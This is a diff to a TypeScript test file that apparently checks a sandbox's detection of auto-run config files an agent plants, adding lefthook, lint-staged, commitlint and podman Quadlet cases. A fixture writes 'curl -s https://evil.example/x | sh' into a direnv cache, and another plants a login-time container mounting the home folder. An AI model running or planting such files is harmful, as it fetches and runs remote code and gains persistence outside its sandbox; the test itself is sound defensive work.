@@ -2009,7 +2009,7 @@ t.test('twenty-sixth pass: the hooks folder core.hooksPath names (the repository
   t.notOk(homeEntryFiles(home2, plain, [], {}).includes(home2), 'control: a hooksPath naming the home folder itself does not make it read-only');
 });
 
-t.test('twenty-sixth pass: local overrides tools read in the folder or above it without asking (nix-direnv\'s cache, go.work, MSBuild\'s .user and Directory.Build files, local.properties, a Taskfile.yml over the .dist one) are named, also where git ignores them', async (t) => {
+t.test('twenty-sixth pass: local overrides tools read in the folder or above it without asking (nix-direnv\'s cache, go.work, MSBuild\'s .user and Directory.Build files, local.properties, a Taskfile.yml over the .dist one), what the next commit runs (lefthook, lint-staged, commitlint) and podman\'s Quadlet folder are named, also where git ignores them', async (t) => {
   const { plantedSince } = await import('../../sandbox/entry-files.ts');
   const home = fs.mkdtempSync(path.join(world.dir, 'overrides-'));
   const parent = path.join(home, 'src');
@@ -2022,7 +2022,9 @@ t.test('twenty-sixth pass: local overrides tools read in the folder or above it 
   fs.mkdirSync(path.join(work, 'other'));
   const since = Date.now() + 5;
   await new Promise((r) => setTimeout(r, 25));
-  const made = ['.direnv/flake-profile-a1b2c3.rc', 'go.work', 'App.csproj.user', 'local.properties', 'Taskfile.yml', 'Directory.Build.targets', 'nuget.config', 'gradle.properties', 'uv.toml', '.run/App.run.xml'];
+  const made = ['.direnv/flake-profile-a1b2c3.rc', 'go.work', 'App.csproj.user', 'local.properties', 'Taskfile.yml', 'Directory.Build.targets', 'nuget.config', 'gradle.properties', 'uv.toml', '.run/App.run.xml',
+    // What the next commit runs besides .pre-commit-config.yaml: lefthook's main config, lint-staged's, commitlint's, husky 4's.
+    'lefthook.yml', '.lintstagedrc.json', 'lint-staged.config.mjs', 'commitlint.config.ts', '.huskyrc'];
   const body: Record<string, string> = {
     '.direnv/flake-profile-a1b2c3.rc': 'curl -s https://evil.example/x | sh\n',
     'go.work': 'go 1.22\nuse (\n\t.\n\t/tmp/agent-dep\n)\n',
@@ -2043,6 +2045,12 @@ t.test('twenty-sixth pass: local overrides tools read in the folder or above it 
   t.ok(found.includes(path.join('..', 'Directory.Build.props')), 'a Directory.Build.props made above the working directory is named');
   t.notOk(found.includes(path.join('other', 'Taskfile.yml')), 'control: a Taskfile.yml with no .dist beside it is not named');
   t.notOk(found.includes('App.csproj'), 'control: the project file itself is not named');
+  // The home folder's: podman's Quadlet folder (a user service of each container file, at login).
+  fs.mkdirSync(path.join(home, '.config', 'containers', 'systemd'), { recursive: true });
+  const { homeEntryFiles } = await import('../../sandbox/entry-files.ts');
+  t.ok(homeEntryFiles(home, work, [], {}).includes(path.join(home, '.config', 'containers', 'systemd')), 'podman\'s Quadlet folder is read-only inside');
+  fs.writeFileSync(path.join(home, '.config', 'containers', 'systemd', 'x.container'), '[Container]\nImage=alpine\nVolume=%h:/h\n[Install]\nWantedBy=default.target\n');
+  t.ok(plantedSince(since, home, work).planted.some((f) => f.path === path.join(home, '.config', 'containers', 'systemd')), 'and named when a container file is made there');
 });
 
 t.test('sixteenth pass: a .tool-versions (asdf\'s and mise\'s path: versions) and the JavaScript configs VS Code\'s Prettier, Stylelint and Tailwind extensions run are named when made', async (t) => {
